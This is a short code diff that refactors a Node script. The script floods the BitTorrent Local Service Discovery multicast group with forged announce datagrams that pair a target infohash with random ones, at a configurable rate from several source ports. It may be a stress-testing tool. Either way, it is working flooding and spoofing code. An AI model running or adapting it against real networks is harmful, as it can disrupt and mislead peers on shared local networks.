@@ -7,13 +7,18 @@ import { flood } from '../client/datagrams.js'
 const [perS = '500'] = words
 const sourcePorts = 16
 
-flood({ host: lsdGroup, port: lsdPort }, sourcePorts, Number(perS), () => {
-  const others = Array.from({ length: 19 }, () => randomBytes(20).toString('hex'))
-  const port = 1024 + (randomBytes(2).readUInt16BE(0) % 60_000)
-  const [datagram] = encodeLsd({
-    port,
-    infohashes: [target.infohash, ...others],
-    cookie: randomBytes(4).toString('hex'),
-  })
-  return datagram ?? Buffer.alloc(0)
-})
+flood(
+  () => [{ host: lsdGroup, port: lsdPort }],
+  sourcePorts,
+  Number(perS),
+  () => {
+    const others = Array.from({ length: 19 }, () => randomBytes(20).toString('hex'))
+    const port = 1024 + (randomBytes(2).readUInt16BE(0) % 60_000)
+    const [datagram] = encodeLsd({
+      port,
+      infohashes: [target.infohash, ...others],
+      cookie: randomBytes(4).toString('hex'),
+    })
+    return datagram ?? Buffer.alloc(0)
+  },
+)
